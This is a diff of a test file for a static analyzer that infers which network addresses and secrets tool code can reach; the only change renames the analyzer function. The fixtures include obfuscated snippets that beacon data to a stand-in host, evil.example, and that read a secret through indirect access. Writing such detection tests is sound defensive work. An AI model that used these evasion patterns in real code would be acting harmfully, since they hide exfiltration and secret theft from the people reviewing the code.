@@ -1,5 +1,5 @@
 import { expect, it } from 'vitest';
-import { evidentAccess } from './evident-access.ts';
+import { inferAccess } from './infer-access.ts';
 
 it.each([
   `export default async function tool() { return (function(){ return this ` +
@@ -161,7 +161,7 @@ it.each([
   `const n = navigator; export default (p) => { n['send'+'Beacon']('https://evil.example/x'); }`,
   `export default (p) => { const { ['send'+'Beacon']: b } = navigator; b('https://evil.example/x'); }`,
 ])('names the address in %s, or says that there may be others', (code) => {
-  const { network, hasOtherAddresses } = evidentAccess(code);
+  const { network, hasOtherAddresses } = inferAccess(code);
   expect(hasOtherAddresses || network.some(({ origin }) => origin === 'https://evil.example')).toBe(true);
 });
 
@@ -177,7 +177,7 @@ it.each([
   `function of(s, n) { return s.get(n); } export default (p, { secrets }) => of(secrets, 'EVIL');`,
   `export default (p, c) => ['EVIL'].map(c.secrets.get);`,
 ])('names the secret in %s, or says that there may be others', (code) => {
-  const { secrets, hasOtherSecrets } = evidentAccess(code);
+  const { secrets, hasOtherSecrets } = inferAccess(code);
   expect(hasOtherSecrets || secrets.includes('EVIL')).toBe(true);
 });
 
@@ -205,5 +205,5 @@ it.each([
   "import { readFileSync } from 'node:fs'; module.exports = { tool: (p) => readFileSync(p.path, 'utf8') };",
   'export default async (p, { log, ...context }) => { log(p.x); return context.files ?? null; };',
 ])('says of %s that it contacts nobody', (code) => {
-  expect(evidentAccess(code)).toEqual({ network: [], secrets: [], hasOtherAddresses: false, hasOtherSecrets: false });
+  expect(inferAccess(code)).toEqual({ network: [], secrets: [], hasOtherAddresses: false, hasOtherSecrets: false });
 });
